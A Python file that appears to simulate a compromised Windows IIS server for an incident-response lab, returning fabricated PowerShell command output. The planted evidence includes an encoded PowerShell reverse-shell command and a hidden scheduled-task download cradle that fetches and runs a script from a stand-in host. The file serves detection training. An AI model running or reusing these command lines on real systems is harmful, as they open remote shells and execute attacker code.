"""A Windows Server 2022 IIS host with an encoded PowerShell reverse shell and a disguised scheduled task.

Indicators: an encoded powershell.exe spawned by w3wp.exe talking to 203.0.113.66:443, a scheduled task
"WindowsUpdateCheck" that runs a hidden PowerShell download cradle, and a new local admin
"svc_backup". Cmdlet names are case-insensitive, as in PowerShell.
"""
from lab.ssm.hosts.base import HostProfile

_TCP = """\

LocalAddress                        LocalPort RemoteAddress                       RemotePort State       AppliedSetting OwningProcess
------------                        --------- -------------                       ---------- -----       -------------- -------------
${ip}                                  49731     203.0.113.66                        443        Established Internet       6120
${ip}                                  49702     52.94.177.201                       443        Established Internet       2748
${ip}                                  3389      198.51.100.77                       50433      Established Internet       1044
${ip}                                  443       192.0.2.44                          61522      Established Internet       4
0.0.0.0                             49668     0.0.0.0                             0          Listen                     692
0.0.0.0                             49665     0.0.0.0                             0          Listen                     540
0.0.0.0                             5985      0.0.0.0                             0          Listen                     4
0.0.0.0                             3389      0.0.0.0                             0          Listen                     1044
0.0.0.0                             445       0.0.0.0                             0          Listen                     4
0.0.0.0                             443       0.0.0.0                             0          Listen                     4
0.0.0.0                             135       0.0.0.0                             0          Listen                     884
0.0.0.0                             80        0.0.0.0                             0          Listen                     4


"""

_UDP = """\

LocalAddress                             LocalPort
------------                             ---------
0.0.0.0                                  5355
0.0.0.0                                  5353
0.0.0.0                                  3389
0.0.0.0                                  500
127.0.0.1                                53448
${ip}                                       137
${ip}                                       138


"""

_PROCESS = """\

Handles  NPM(K)    PM(K)      WS(K)     CPU(s)     Id  SI ProcessName
-------  ------    -----      -----     ------     --  -- -----------
    268      16     5432      17620       0.30   2748   0 amazon-ssm-agent
    221      15     4108      15012       0.22   3016   0 ssm-agent-worker
    112       8     1460       6040       0.02    540   0 wininit
    604      28    10232      28040       3.11    692   0 lsass
    254      13     3296      12500       0.72    884   0 svchost
    543      37    20140      41896      12.45   1044   0 svchost
    870      45    61220      88312     411.52   4380   0 w3wp
    644      32    58716      72004       8.91   6120   0 powershell
    175      11     2232      10880       0.05   6188   0 conhost
   1630       0      192        152      39.12      4   0 System
      0       0       60          8                 0   0 Idle
"""

_CIM_PROCESS = """\

ProcessId ParentProcessId Name                 CommandLine
--------- --------------- ----                 -----------
        4               0 System
      540             436 wininit.exe
      692             540 lsass.exe            C:\\Windows\\system32\\lsass.exe
      884             676 svchost.exe          C:\\Windows\\system32\\svchost.exe -k RPCSS -p
     1044             676 svchost.exe          C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService
     2748             676 amazon-ssm-agent.exe "C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe"
     3016            2748 ssm-agent-worker.exe "C:\\Program Files\\Amazon\\SSM\\ssm-agent-worker.exe"
     4380            2012 w3wp.exe             c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"
     6120            4380 powershell.exe       powershell.exe -nop -w hidden -enc \
JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AUwBvAGMAawBlAHQAcwAuAFQAQwBQAEMAbABpAGUAbgB0ACgAIgAyADAAMwAuADAALgAxADEAMwAuADYANgAiACwANAA0ADMAKQA7ACQAcwA9ACQAYwAuAEcAZQB0AFMAdAByAGUAYQBtACgAKQA=
     6188            6120 conhost.exe          \\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1
"""

_SERVICE = """\

Status   Name               DisplayName
------   ----               -----------
Running  AmazonSSMAgent     Amazon SSM Agent
Running  EventLog           Windows Event Log
Running  LanmanServer       Server
Running  RpcSs              Remote Procedure Call (RPC)
Running  TermService        Remote Desktop Services
Running  W3SVC              World Wide Web Publishing Service
Running  WinRM              Windows Remote Management (WS-Manag...
Stopped  WinDefend          Microsoft Defender Antivirus Service
Running  wuauserv           Windows Update


"""

_TASKS = """\

TaskPath                                       TaskName                          State
--------                                       --------                          -----
\\                                              WindowsUpdateCheck                Ready
\\Microsoft\\Windows\\Defrag\\                    ScheduledDefrag                   Ready
\\Microsoft\\Windows\\Windows Error Reporting\\   QueueReporting                    Ready
\\Amazon\\                                       AmazonCloudWatchAutoUpdate        Ready


"""

_TASK_DETAIL = """\
WindowsUpdateCheck: powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/u.ps1')"\
 (trigger: every 10 minutes, run as SYSTEM)
"""

_QUERY_USER = """\
 USERNAME              SESSIONNAME        ID  STATE   IDLE TIME  LOGON TIME
 svc_backup            rdp-tcp#3           2  Active          .  ${incident_win}
"""

_NEIGHBOR = """\

ifIndex IPAddress                                          LinkLayerAddress      State       PolicyStore
------- ---------                                          ----------------      -----       -----------
6       ${gateway}                                          0A-FF-D3-8A-11-4F     Reachable   ActiveStore
6       10.20.0.2                                          0A-FF-D3-8A-11-4F     Stale       ActiveStore
6       169.254.169.254                                    0A-FF-D3-8A-11-4F     Reachable   ActiveStore


"""

_ROUTE = """\

ifIndex DestinationPrefix                              NextHop                                  RouteMetric ifMetric PolicyStore
------- -----------------                              -------                                  ----------- -------- -----------
6       0.0.0.0/0                                      ${gateway}                                 0           15       ActiveStore
6       ${network}/24                                  0.0.0.0                                  256         15       ActiveStore
6       ${ip}/32                                       0.0.0.0                                  256         15       ActiveStore
6       169.254.169.254/32                             ${gateway}                                 15          15       ActiveStore
1       127.0.0.0/8                                    0.0.0.0                                  256         75       ActiveStore


"""

_IPADDRESS = """\

IPAddress         : ${ip}
InterfaceIndex    : 6
InterfaceAlias    : Ethernet
AddressFamily     : IPv4
Type              : Unicast
PrefixLength      : 24
PrefixOrigin      : Dhcp
SuffixOrigin      : Dhcp
AddressState      : Preferred

IPAddress         : 127.0.0.1
InterfaceIndex    : 1
InterfaceAlias    : Loopback Pseudo-Interface 1
AddressFamily     : IPv4
Type              : Unicast
PrefixLength      : 8
PrefixOrigin      : WellKnown
SuffixOrigin      : WellKnown
AddressState      : Preferred


"""

_LOCAL_USER = """\

Name               Enabled Description
----               ------- -----------
Administrator      True    Built-in account for administering the computer/domain
DefaultAccount     False   A user account managed by the system.
Guest              False   Built-in account for guest access to the computer/domain
svc_backup         True
WDAGUtilityAccount False   A user account managed and used by the system for Windows Defender Application Guard scen...


"""

_NETSTAT = """\

Active Connections

  Proto  Local Address          Foreign Address        State           PID
  TCP    0.0.0.0:80             0.0.0.0:0              LISTENING       4
  TCP    0.0.0.0:443            0.0.0.0:0              LISTENING       4
  TCP    0.0.0.0:3389           0.0.0.0:0              LISTENING       1044
  TCP    ${ip}:3389        198.51.100.77:50433    ESTABLISHED     1044
  TCP    ${ip}:49702       52.94.177.201:443      ESTABLISHED     2748
  TCP    ${ip}:49731       203.0.113.66:443       ESTABLISHED     6120
"""

_OUTPUTS = {
    "Get-Date": "\n${win_date}\n\n\n",
    "hostname": "${hostname}\n",
    "whoami": "nt authority\\system\n",
    "Get-NetTCPConnection": _TCP,
    "Get-NetUDPEndpoint": _UDP,
    "Get-Process": _PROCESS,
    "Get-CimInstance": "",
    "Get-CimInstance Win32_Process": _CIM_PROCESS,
    "Get-Service": _SERVICE,
    "Get-ScheduledTask": _TASKS + _TASK_DETAIL,
    "query user": _QUERY_USER,
    "Get-NetNeighbor": _NEIGHBOR,
    "Get-NetRoute": _ROUTE,
    "Get-NetIPAddress": _IPADDRESS,
    "Get-LocalUser": _LOCAL_USER,
    "netstat": _NETSTAT,
}

_FILLER = (
    "${day} ${clock} W3SVC1 ${ip} GET /assets/app.${n}.js - 443 - 192.0.2.44 Mozilla/5.0 - 200 0 0 15\n",
    "${day} ${clock} Microsoft-Windows-Security-Auditing 4624 An account was successfully logged on. Logon ID: 0x${n}\n",
)


class WindowsHost(HostProfile):
    """PowerShell: case-insensitive names, 'function' lines, and its own not-found message."""

    platform = "Windows"

    @staticmethod
    def fold(word):
        return word.lower()

    def not_found(self, tool):
        return (
            f"{tool} : The term '{tool}' is not recognized as the name of a cmdlet, function, script file, or operable program.\n"
            f"    + CategoryInfo          : ObjectNotFound: ({tool}:String) [], CommandNotFoundException\n"
            "    + FullyQualifiedErrorId : CommandNotFoundException\n"
        )

    def defines_function(self, line):
        return line.lower().startswith("function ")


WINDOWS = WindowsHost(_OUTPUTS, {}, _FILLER)
